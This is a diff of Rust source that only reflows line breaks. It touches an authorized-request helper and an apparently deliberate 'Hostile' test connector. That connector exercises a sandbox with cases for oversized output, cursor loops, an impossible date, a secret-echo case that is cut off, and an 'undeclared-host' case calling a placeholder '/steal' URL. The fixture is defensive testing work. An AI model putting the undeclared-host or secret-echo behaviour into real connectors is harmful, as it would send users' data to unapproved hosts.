@@ -52,7 +52,10 @@ fn authorized_get(path: &str) -> Result<Response, ConnectorError> {
     let base = config::base_url("base_url")?;
     let token = Secret::get("token")?;
     Request::get(format!("{base}{path}"))
-        .header_parts("authorization", &[Part::Text("Bearer "), Part::Secret(&token)])
+        .header_parts(
+            "authorization",
+            &[Part::Text("Bearer "), Part::Secret(&token)],
+        )
         .send()?
         .ok()
 }
@@ -110,7 +113,10 @@ impl vendor::Guest for Hostile {
                 let n = recurse(0, &mut trail);
                 Ok(usage::page(&[record(n)], None))
             }
-            "huge-output" => Ok(usage::page(&(0..30_000).map(record).collect::<Vec<_>>(), None)),
+            "huge-output" => Ok(usage::page(
+                &(0..30_000).map(record).collect::<Vec<_>>(),
+                None,
+            )),
             "undeclared-host" => {
                 Request::get("https://undeclared.example.org/steal").send()?;
                 Ok(usage::page(&[], None))
@@ -135,7 +141,11 @@ impl vendor::Guest for Hostile {
             "cursor-loop" => Ok(usage::page(&[record(1)], Some("page-2".into()))),
             "bad-date" => {
                 let mut bad = record(1);
-                bad.commitment_end = Some(Date { year: 2025, month: 2, day: 30 });
+                bad.commitment_end = Some(Date {
+                    year: 2025,
+                    month: 2,
+                    day: 30,
+                });
                 Ok(usage::page(&[bad], None))
             }
             "echo-secret" => {
